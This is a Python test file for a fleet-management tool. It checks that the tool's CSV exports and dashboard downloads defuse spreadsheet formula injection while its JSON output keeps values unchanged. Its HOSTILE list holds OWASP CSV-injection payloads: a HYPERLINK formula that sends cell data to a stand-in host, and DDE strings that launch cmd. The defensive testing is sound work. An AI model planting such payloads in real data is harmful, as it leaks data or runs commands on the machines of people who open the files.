"""No CSV the project writes hands a spreadsheet a formula (OWASP "CSV injection").

Hostnames, sites and holder names come from the agents' documents: one starting with ``=``,
``+``, ``-``, ``@``, TAB, CR or NUL, or with one of them after leading spaces, gets a leading
``'`` in the CSV of ``cpsfleet controller export``, ``readiness --csv`` and the dashboard's
downloads, while the JSON keeps it exactly and numbers (days left -6) stay numbers.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import subprocess
from collections.abc import Iterator
from typing import Any

import pytest

from cpsfleet.controller.db.connect import is_postgres
from cpsfleet.controller.db.store import Store
from cpsfleet.controller.web import exports
from cpsfleet.schemas import validate
from tests.conftest import CLI
from tests.test_dashboard import PASSWORD, fetch, login, request, serving, session_cookie
from tests.test_readiness_cli import NOW, imported, lyon

# One per character OWASP names, NUL (ASVS), and one behind leading spaces.
HOSTILE = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Details")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "\0=1+2",
    "  =1+2",
)


def hostile_status(index: int, text: str) -> dict[str, Any]:
    """Lyon's four readers (the doctor's card, a nurse's, an expired one, a Vitale card) on a
    host whose name and site are ``text``; the doctor's certificates name her ``text``."""
    document = copy.deepcopy(lyon())
    document["host"] |= {"id": f"hostile-{index}", "hostname": text, "site": text}
    for certificate in document["readers"][0]["card"]["certificates"]:
        certificate |= {"surname": text, "given_name": text}
    for reader in document["readers"]:  # each host its own cards: a card is in one place
        if reader["card"] and reader["card"]["serial"]:
            reader["card"]["serial"] += f"-{index}"
    return validate(document)


@pytest.fixture(scope="module")
def fleet(module_database: str) -> str:
    """A host per hostile text, and the sample roster: its doctor and nurse were last seen on
    one of those hosts."""
    with Store(module_database) as store:
        for index, text in enumerate(HOSTILE):
            store.record_status(hostile_status(index, text), NOW)
    imported(module_database)
    return module_database


@pytest.fixture(scope="module")
def url(fleet: str) -> Iterator[str]:
    with serving(fleet) as address:
        yield address


def cli(*args: str) -> str:
    """Standard output of the real ``cpsfleet`` as written: bytes, CR and NUL kept."""
    result = subprocess.run([*CLI, *args], capture_output=True, timeout=60)
    assert result.returncode == 0, result.stderr.decode()
    return result.stdout.decode("utf-8")


def exported(what: str, database: str, form: str) -> str:
    return cli("controller", "export", what, "--database", database, "--format", form)


def cell(value: Any) -> str:
    """The CSV cell of a JSON value: hostile text behind a ``'``, everything else as it is."""
    if isinstance(value, bool):
        return "true" if value else "false"
    if value is None:
        return ""
    return f"'{value}" if value in HOSTILE else str(value)


def hostile_columns(csv_text: str, json_text: str) -> set[str]:
    """Check every cell of the CSV against its JSON value; the columns that held hostile text.

    The JSON must hold each hostile text exactly, so its values are the originals."""
    cells = list(csv.DictReader(io.StringIO(csv_text, newline="")))
    values: list[dict[str, Any]] = json.loads(json_text)
    assert len(cells) == len(values) > 0
    found = set()
    for csv_row, json_row in zip(cells, values, strict=True):
        for column, value in json_row.items():
            assert csv_row[column] == cell(value), (column, csv_row[column], value)
            found |= {column} if value in HOSTILE else set()
    return found


def held(json_text: str, column: str) -> set[str]:
    return {row[column] for row in json.loads(json_text)}


def kept(texts: list[str] | tuple[str, ...], database: str) -> set[str]:
    """``texts`` as the store keeps them: PostgreSQL's text cannot hold NUL, which it keeps
    as U+FFFD (no formula lead then: such a text is left alone in the CSV)."""
    if not is_postgres(database):
        return set(texts)
    return {text.replace("\0", "\ufffd") for text in texts}


# --- the command line -----------------------------------------------------------------------


def test_the_hosts_export_quotes_hostile_hostnames_and_sites(fleet: str) -> None:
    as_csv, as_json = (exported("hosts", fleet, form) for form in ("csv", "json"))
    assert hostile_columns(as_csv, as_json) == {"hostname", "site"}
    # Byte for byte, NUL (in SQLite) and CR included.
    assert held(as_json, "hostname") == kept(HOSTILE, fleet)


def test_the_cards_export_quotes_hostile_holders_and_keeps_negative_days(fleet: str) -> None:
    as_csv, as_json = (exported("cards", fleet, form) for form in ("csv", "json"))
    assert hostile_columns(as_csv, as_json) == {"surname", "given_name", "host", "site"}
    assert held(as_json, "surname") >= kept(HOSTILE, fleet)
    days = [row["days_left"] for row in csv.DictReader(io.StringIO(as_csv, newline=""))]
    expired = [day for day in days if day.startswith("-")]
    assert len(expired) == len(HOSTILE)  # the expired card on each host
    assert all(day[1:].isdigit() for day in expired)  # a number a spreadsheet sums, no '
    assert "MARTIN" in held(as_json, "surname")  # benign text: no ' in the CSV (checked above)


def test_the_readiness_export_and_report_quote_the_host_last_seen(fleet: str) -> None:
    as_json = exported("readiness", fleet, "json")
    assert hostile_columns(exported("readiness", fleet, "csv"), as_json) == {"last_seen_host"}
    report = cli("controller", "readiness", "--database", fleet, "--csv")
    assert hostile_columns(report, as_json) == {"last_seen_host"}


# --- the dashboard's downloads --------------------------------------------------------------


@pytest.mark.parametrize(
    ("what", "columns"),
    [
        ("hosts", {"hostname", "site"}),
        ("cards", {"surname", "given_name", "host", "site"}),
        ("readiness", {"last_seen_host"}),
    ],
)
def test_the_dashboard_downloads_quote_what_the_cli_quotes(
    url: str, what: str, columns: set[str]
) -> None:
    as_csv, as_json = (fetch(url, f"/export/{what}.{form}") for form in ("csv", "json"))
    assert as_csv.status == as_json.status == 200
    assert hostile_columns(as_csv.text, as_json.text) == columns


def test_the_audit_export_quotes_the_user_names_typed_at_sign_in(fleet: str) -> None:
    """Anybody may type a formula as a user name: the failed sign-in is in the audit trail,
    which an admin downloads for a spreadsheet."""
    typed = [text for text in HOSTILE if text == text.strip()]  # the form strips the name
    with serving(fleet, login_failures_per_source=len(typed) + 1) as address:
        for name in typed:
            assert login(address, "guess", user=name).status == 401
        admin = {"Cookie": session_cookie(login(address, PASSWORD))}
        as_csv, as_json = (
            request(address, f"/export/audit.{form}?outcome=failed", headers=admin)
            for form in ("csv", "json")
        )
    assert as_csv.status == as_json.status == 200
    assert hostile_columns(as_csv.text, as_json.text) == {"actor"}
    assert held(as_json.text, "actor") == kept(typed, fleet)


# --- the rule -------------------------------------------------------------------------------


def test_text_is_quoted_numbers_are_not() -> None:
    row = {"days_left": -3, "ratio": -0.5, "text": "-3", "name": "DONNAT-GADY", "quoted": "'=1"}
    stream = io.StringIO(newline="")
    exports.write_csv([row], tuple(row), stream)
    assert stream.getvalue().splitlines()[1] == "-3,-0.5,'-3,DONNAT-GADY,'=1"


@pytest.mark.parametrize("text", [*HOSTILE, " -1", "\u00a0@x", "\n=1+2", " \t+1"])
def test_a_formula_lead_first_or_after_whitespace_is_quoted(text: str) -> None:
    assert exports.neutralised(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", " ", "ws-lyon-07", "a=b", "Lyon Part-Dieu", "'@x", "1-2"])
def test_other_text_is_left_alone(text: str) -> None:
    assert exports.neutralised(text) == text
